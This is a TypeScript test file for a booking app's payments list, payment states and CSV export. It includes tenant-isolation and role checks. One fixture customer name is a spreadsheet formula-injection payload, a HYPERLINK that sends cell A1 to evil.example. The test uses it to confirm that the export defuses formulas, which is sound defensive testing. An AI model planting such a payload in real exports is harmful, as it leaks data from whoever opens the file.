/**
 * Staff see the money: the payments list and its CSV (owners and admins), the payment summary
 * on appointments in the lists, on PGlite. Rows are written straight into the tables here
 * (states the real paths take minutes or Stripe to reach); `payments-paid-booking.test.ts`
 * pays a booking through the real path on the local Stripe service.
 */
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { appointments, customers, paymentRefunds, payments } from '../../server/db/schema.ts'
import { type PaymentFacts, summarisePayments } from '../../server/domain/payment-state.ts'
import type { components } from '../../shared/contract/schema.d.ts'
import { parseCsv } from '../support/api/csv.ts'
import {
  createSchedulingBusiness,
  type SchedulingBusiness,
} from '../support/api/scheduling-business.ts'
import { call, expectInvalid, expectProblem } from '../support/api/team-business.ts'
import { createTestApp, type TestApp } from '../support/api/test-app.ts'

type PaymentPage = components['schemas']['PaymentPage']
type PaymentState = components['schemas']['PaymentState']
type AppointmentList = components['schemas']['AppointmentList']

const HOUR = 3_600_000
const PAYMENT_STATES: PaymentState[] = [
  'pending',
  'paid',
  'deposit_paid',
  'partly_refunded',
  'refunded',
  'failed',
  'expired',
  'card_on_file',
]

let testApp: TestApp
let salon: SchedulingBusiness
let other: SchedulingBusiness

beforeAll(async () => {
  testApp = await createTestApp()
  salon = await createSchedulingBusiness(testApp, 'Ledger', 'America/New_York')
  other = await createSchedulingBusiness(testApp, 'Other Ledger')
}, 120_000)
afterAll(() => testApp?.close())

interface PaymentFixture {
  kind: PaymentFacts['kind']
  status: PaymentFacts['status']
  amountMinor: number
  refundedMinor?: number
  /** When the payment was started. */
  createdAt: Date
  currency?: string
}

/** An appointment of the business (with its own customer when named) and its payments. */
async function appointmentWithPayments(
  business: SchedulingBusiness,
  startsAt: Date,
  fixtures: PaymentFixture[],
  options: { customerName?: string; status?: 'confirmed' | 'completed'; priceMinor?: number } = {},
) {
  const db = testApp.database.db
  let customerId = business.customerId
  if (options.customerName) {
    // Straight into the table: the API refuses line breaks in a name, an old import may not.
    const [customer] = await db
      .insert(customers)
      .values({ tenantId: business.tenantId, name: options.customerName })
      .returning()
    if (!customer) throw new Error('no customer')
    customerId = customer.id
  }
  const id = randomUUID()
  const endsAt = new Date(startsAt.getTime() + 30 * 60_000)
  await db.insert(appointments).values({
    id,
    tenantId: business.tenantId,
    serviceId: business.haircutId,
    teamMemberId: business.staffMemberId,
    customerId,
    startsAt,
    endsAt,
    status: options.status ?? 'confirmed',
    priceMinor: options.priceMinor ?? 3000,
    currency: 'USD',
    source: 'public',
    busyFrom: startsAt,
    busyUntil: endsAt,
    seatGroup: id,
  })
  const paymentIds: string[] = []
  for (const fixture of fixtures) {
    const [row] = await db
      .insert(payments)
      .values({
        tenantId: business.tenantId,
        appointmentId: id,
        kind: fixture.kind,
        status: fixture.status,
        amountMinor: fixture.amountMinor,
        refundedAmountMinor: fixture.refundedMinor ?? 0,
        currency: fixture.currency ?? 'USD',
        // Money taken at the till has a method and no Stripe account (a CHECK).
        stripeAccountId: fixture.kind === 'in_person' ? null : 'acct_ledger',
        method: fixture.kind === 'in_person' ? 'cash' : null,
        paidAt: fixture.status === 'succeeded' ? fixture.createdAt : null,
        createdAt: fixture.createdAt,
      })
      .returning()
    if (!row) throw new Error('no payment')
    if (fixture.refundedMinor) {
      await db.insert(paymentRefunds).values({
        tenantId: business.tenantId,
        paymentId: row.id,
        amountMinor: fixture.refundedMinor,
        cause: 'staff',
        stripeRefundId: `re_${randomUUID()}`,
        createdAt: fixture.createdAt,
      })
    }
    paymentIds.push(row.id)
  }
  return { appointmentId: id, paymentIds }
}

const list = (business: SchedulingBusiness, query = '', as = business.owner) =>
  call(testApp, as, 'GET', `/api/v1/payments${query}`)

async function page(business: SchedulingBusiness, query = ''): Promise<PaymentPage> {
  const response = await list(business, query)
  expect(response.statusCode, response.body).toBe(200)
  return response.json<PaymentPage>()
}

/** Every page of the list, following the cursor. */
async function allPages(business: SchedulingBusiness, query: string) {
  const seen: PaymentPage['items'] = []
  let cursor: string | null = null
  let pages = 0
  do {
    const suffix: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''
    const next = await page(business, `${query}${suffix}`)
    seen.push(...next.items)
    cursor = next.next_cursor
    pages++
  } while (cursor && pages < 50)
  return { items: seen, pages }
}

describe('the payments list', () => {
  // Ten payments an hour apart, the newest first in the list; another business's in between.
  const base = Date.parse('2026-03-02T15:00:00Z')
  const ids: string[] = []
  let otherPaymentId: string

  beforeAll(async () => {
    for (let n = 0; n < 10; n++) {
      const made = await appointmentWithPayments(salon, new Date(base + n * HOUR + 48 * HOUR), [
        {
          kind: 'prepayment',
          status: 'succeeded',
          amountMinor: 1000 + n,
          createdAt: new Date(base + n * HOUR),
        },
      ])
      ids.push(made.paymentIds[0] ?? '')
    }
    const foreign = await appointmentWithPayments(other, new Date(base + 60 * HOUR), [
      { kind: 'prepayment', status: 'succeeded', amountMinor: 999, createdAt: new Date(base) },
    ])
    otherPaymentId = foreign.paymentIds[0] ?? ''
  }, 60_000)

  const range = `?from=${new Date(base).toISOString()}&to=${new Date(base + 10 * HOUR).toISOString()}`

  it('is newest first, paged by cursor with nothing repeated or skipped', async () => {
    const first = await page(salon, `${range}&limit=4`)
    expect(first.items.map((item) => item.id)).toEqual([...ids].reverse().slice(0, 4))
    expect(first.next_cursor).toEqual(expect.any(String))
    const { items, pages } = await allPages(salon, `${range}&limit=4`)
    expect(pages).toBe(3)
    expect(items.map((item) => item.id)).toEqual([...ids].reverse())
    expect(items[0]).toEqual({
      id: ids[9],
      created_at: new Date(base + 9 * HOUR).toISOString(),
      paid_at: new Date(base + 9 * HOUR).toISOString(),
      appointment_id: expect.any(String),
      appointment_starts_at: new Date(base + 57 * HOUR).toISOString(),
      customer_id: salon.customerId,
      customer_name: salon.customerName,
      service_name: 'Haircut',
      kind: 'prepayment',
      method: null,
      state: 'paid',
      currency: 'USD',
      amount_minor: 1009,
      refunded_minor: 0,
      net_minor: 1009,
    })
  })

  it('never lists another business’s payments', async () => {
    const { items } = await allPages(salon, '?limit=100')
    expect(items.map((item) => item.id)).not.toContain(otherPaymentId)
    const theirs = await allPages(other, '?limit=100')
    expect(theirs.items.map((item) => item.id)).toEqual([otherPaymentId])
    expect(theirs.items.map((item) => item.id)).not.toContain(ids[0])
  })

  it('narrows by the date range: from inclusive, to exclusive', async () => {
    const narrowed = await page(
      salon,
      `?from=${new Date(base + 2 * HOUR).toISOString()}&to=${new Date(base + 5 * HOUR).toISOString()}`,
    )
    expect(narrowed.items.map((item) => item.id)).toEqual([ids[4], ids[3], ids[2]])
    expect(narrowed.next_cursor).toBeNull()
  })

  it('is for owners and admins, not staff (it lists every customer’s money)', async () => {
    expect((await list(salon, range, salon.admin)).statusCode).toBe(200)
    expectProblem(await list(salon, range, salon.staff), 403)
    expectProblem(
      await call(testApp, salon.staff, 'GET', `/api/v1/payments/export.csv${range}`),
      403,
    )
    const anonymous = await testApp.app.inject({ method: 'GET', url: '/api/v1/payments' })
    expect(anonymous.statusCode).toBe(401)
  })

  it('refuses bad filters with 400 naming the field', async () => {
    expectInvalid(await list(salon, '?state=settled'), 'query.state')
    expectInvalid(await list(salon, '?from=yesterday'), 'query.from')
    expectInvalid(await list(salon, '?limit=0'), 'query.limit')
    expectInvalid(
      await list(salon, '?from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z'),
      'query.to',
    )
    expectInvalid(await list(salon, '?cursor=not-ours'), 'query.cursor')
    const forged = Buffer.from(JSON.stringify(['2026-02-30T00:00:00Z', randomUUID()])).toString(
      'base64url',
    )
    expectInvalid(await list(salon, `?cursor=${forged}`), 'query.cursor')
    expectInvalid(
      await call(testApp, salon.owner, 'GET', '/api/v1/payments/export.csv?state=settled'),
      'query.state',
    )
  })
})

describe('payment states', () => {
  // One appointment per payment, every kind and status, a week on from the list's rows.
  const day = Date.parse('2026-04-06T14:00:00Z')
  const fixtures: PaymentFixture[] = [
    { kind: 'prepayment', status: 'succeeded', amountMinor: 4000 },
    { kind: 'deposit', status: 'succeeded', amountMinor: 800 },
    { kind: 'prepayment', status: 'succeeded', amountMinor: 4000, refundedMinor: 1500 },
    { kind: 'deposit', status: 'succeeded', amountMinor: 800, refundedMinor: 800 },
    { kind: 'no_show_fee', status: 'succeeded', amountMinor: 2500 },
    { kind: 'no_show_fee', status: 'failed', amountMinor: 2500 },
    { kind: 'prepayment', status: 'pending', amountMinor: 4000 },
    { kind: 'deposit', status: 'expired', amountMinor: 800 },
    { kind: 'card_on_file', status: 'succeeded', amountMinor: 0 },
    { kind: 'in_person', status: 'succeeded', amountMinor: 3500 },
    { kind: 'in_person', status: 'succeeded', amountMinor: 3500, refundedMinor: 500 },
  ].map((fixture, n) => ({
    ...(fixture as Omit<PaymentFixture, 'createdAt'>),
    createdAt: new Date(day + n * 60_000),
  }))
  const made: { appointmentId: string; paymentId: string; fixture: PaymentFixture }[] = []
  const range = `from=${new Date(day).toISOString()}&to=${new Date(day + HOUR).toISOString()}`

  beforeAll(async () => {
    for (const [n, fixture] of fixtures.entries()) {
      const { appointmentId, paymentIds } = await appointmentWithPayments(
        salon,
        new Date(day + 24 * HOUR + n * HOUR),
        [fixture],
      )
      made.push({ appointmentId, paymentId: paymentIds[0] ?? '', fixture })
    }
  }, 60_000)

  it('filters by each state exactly as summarisePayments derives it', async () => {
    const expected = new Map<PaymentState, string[]>()
    for (const { paymentId, fixture } of made) {
      if (fixture.kind === 'card_on_file') continue
      const state = summarisePayments([
        { ...fixture, refundedAmountMinor: fixture.refundedMinor ?? 0 },
      ])?.state
      if (!state) throw new Error('no state')
      expected.set(state, [...(expected.get(state) ?? []), paymentId])
    }
    // The fixture reaches every state a listed payment can be in.
    expect([...expected.keys()].sort()).toEqual(
      PAYMENT_STATES.filter((state) => state !== 'card_on_file').sort(),
    )
    for (const state of PAYMENT_STATES) {
      const { items } = await page(salon, `?${range}&state=${state}`)
      expect(items.map((item) => item.id).sort(), state).toEqual((expected.get(state) ?? []).sort())
      for (const item of items) expect(item.state).toBe(state)
    }
  })

  it('leaves out a card kept on file, and nets refunds', async () => {
    const { items } = await page(salon, `?${range}&limit=100`)
    expect(items).toHaveLength(fixtures.length - 1)
    const partly = items.find(
      (item) => item.state === 'partly_refunded' && item.kind === 'prepayment',
    )
    expect(partly).toMatchObject({ amount_minor: 4000, refunded_minor: 1500, net_minor: 2500 })
    const pending = items.find((item) => item.state === 'pending')
    expect(pending).toMatchObject({ amount_minor: 4000, net_minor: 0, paid_at: null })
  })

  it('puts the summary on the appointments in the staff lists, null without payments', async () => {
    const bare = await appointmentWithPayments(salon, new Date(day + 40 * HOUR), [])
    const response = await call(
      testApp,
      salon.staff,
      'GET',
      `/api/v1/appointments?from=${new Date(day).toISOString()}&to=${new Date(day + 45 * HOUR).toISOString()}`,
    )
    expect(response.statusCode, response.body).toBe(200)
    const byId = new Map(response.json<AppointmentList>().items.map((item) => [item.id, item]))
    expect(byId.get(bare.appointmentId)?.payment).toBeNull()
    const [paid, deposit, partly, , , failedFee, , , card] = made
    expect(byId.get(paid?.appointmentId ?? '')?.payment).toEqual({
      state: 'paid',
      paid_minor: 4000,
      refunded_minor: 0,
      currency: 'USD',
    })
    expect(byId.get(deposit?.appointmentId ?? '')?.payment?.state).toBe('deposit_paid')
    expect(byId.get(partly?.appointmentId ?? '')?.payment).toMatchObject({
      state: 'partly_refunded',
      refunded_minor: 1500,
    })
    expect(byId.get(failedFee?.appointmentId ?? '')?.payment?.state).toBe('failed')
    expect(byId.get(card?.appointmentId ?? '')?.payment).toEqual({
      state: 'card_on_file',
      paid_minor: 0,
      refunded_minor: 0,
      currency: 'USD',
    })
    // The one appointment, read alone, says the same.
    const one = await call(
      testApp,
      salon.staff,
      'GET',
      `/api/v1/appointments/${partly?.appointmentId}`,
    )
    expect(one.json<{ payment: unknown }>().payment).toEqual(
      byId.get(partly?.appointmentId ?? '')?.payment,
    )
  })

  it('sums an appointment’s payments: a deposit kept and a no-show fee charged later', async () => {
    const at = new Date(day + 50 * HOUR)
    const both = await appointmentWithPayments(salon, at, [
      { kind: 'deposit', status: 'succeeded', amountMinor: 800, createdAt: new Date(day) },
      { kind: 'no_show_fee', status: 'succeeded', amountMinor: 2000, createdAt: new Date(day) },
    ])
    const one = await call(
      testApp,
      salon.owner,
      'GET',
      `/api/v1/appointments/${both.appointmentId}`,
    )
    expect(one.json<{ payment: unknown }>().payment).toEqual({
      state: 'paid',
      paid_minor: 2800,
      refunded_minor: 0,
      currency: 'USD',
    })
  })
})

describe('the CSV export', () => {
  const day = Date.parse('2026-05-04T03:30:00Z')
  const range = `from=${new Date(day).toISOString()}&to=${new Date(day + HOUR).toISOString()}`
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Refund here")'
  const awkward = 'O\'Brien, "Bea"\r\nsecond line'

  beforeAll(async () => {
    await appointmentWithPayments(
      salon,
      new Date(day + 72 * HOUR),
      [
        {
          kind: 'deposit',
          status: 'succeeded',
          amountMinor: 1250,
          refundedMinor: 250,
          createdAt: new Date(day),
        },
      ],
      { customerName: hostile },
    )
    await appointmentWithPayments(
      salon,
      new Date(day + 96 * HOUR),
      [
        {
          kind: 'prepayment',
          status: 'pending',
          amountMinor: 30_00,
          createdAt: new Date(day + 60_000),
        },
      ],
      { customerName: awkward },
    )
    await appointmentWithPayments(other, new Date(day + 72 * HOUR), [
      { kind: 'prepayment', status: 'succeeded', amountMinor: 777, createdAt: new Date(day) },
    ])
  }, 60_000)

  async function exported(query: string) {
    const response = await call(testApp, salon.owner, 'GET', `/api/v1/payments/export.csv?${query}`)
    expect(response.statusCode, response.body).toBe(200)
    return response
  }

  it('is the list’s rows as a spreadsheet reads them, in the business’s time zone', async () => {
    const response = await exported(range)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="payments-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    expect(response.body.startsWith('\uFEFF')).toBe(true)
    const [header, ...records] = parseCsv(response.body.slice(1))
    expect(header).toEqual([
      'date',
      'paid_at',
      'appointment_starts_at',
      'customer',
      'service',
      'kind',
      'method',
      'state',
      'currency',
      'amount',
      'refunded',
      'net',
      'payment_id',
      'appointment_id',
    ])
    expect(records).toHaveLength(2)
    const [pending, deposit] = records
    // 03:30 UTC on 4 May is 23:30 on 3 May in New York (EDT, UTC−4).
    expect(deposit?.slice(0, 12)).toEqual([
      '2026-05-03 23:30',
      '2026-05-03 23:30',
      '2026-05-06 23:30',
      `'${hostile}`,
      'Haircut',
      'Deposit',
      'Online',
      'Partly refunded',
      'USD',
      '12.50',
      '2.50',
      '10.00',
    ])
    expect(pending?.slice(0, 12)).toEqual([
      '2026-05-03 23:31',
      '',
      '2026-05-07 23:30',
      awkward,
      'Haircut',
      'Prepayment',
      'Online',
      'Awaiting payment',
      'USD',
      '30.00',
      '0.00',
      '0.00',
    ])
    // Whatever a spreadsheet does with the file, no cell starts a formula.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@]/)
  })

  it('follows the filter and never holds another business’s payments', async () => {
    const [, ...pendingOnly] = parseCsv((await exported(`${range}&state=pending`)).body.slice(1))
    expect(pendingOnly.map((record) => record[3])).toEqual([awkward])
    const [, ...everything] = parseCsv((await exported('')).body.slice(1))
    expect(everything.some((record) => record[8] === '7.77')).toBe(false)
    const [, ...theirs] = parseCsv(
      (await call(testApp, other.owner, 'GET', `/api/v1/payments/export.csv?${range}`)).body.slice(
        1,
      ),
    )
    expect(theirs.map((record) => record[9])).toEqual(['7.77'])
  })
})
